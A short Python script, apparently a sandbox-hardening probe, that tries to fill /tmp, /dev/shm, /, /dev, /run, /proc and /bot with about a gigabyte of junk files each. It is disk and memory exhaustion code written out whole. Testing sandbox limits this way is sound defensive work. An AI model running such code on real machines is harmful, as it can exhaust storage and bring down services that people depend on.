"""Writes wherever it can until it cannot."""

from cast import attempt


def fill(folder: str) -> int:
    for number in range(64):
        with open(f"{folder}/{number}", "wb") as file:
            for _ in range(16):
                file.write(b"x" * 2**20)
    return 64 * 16


for folder in ("/tmp", "/dev/shm", "/", "/dev", "/run", "/proc", "/bot"):
    attempt(folder, lambda folder=folder: fill(folder))
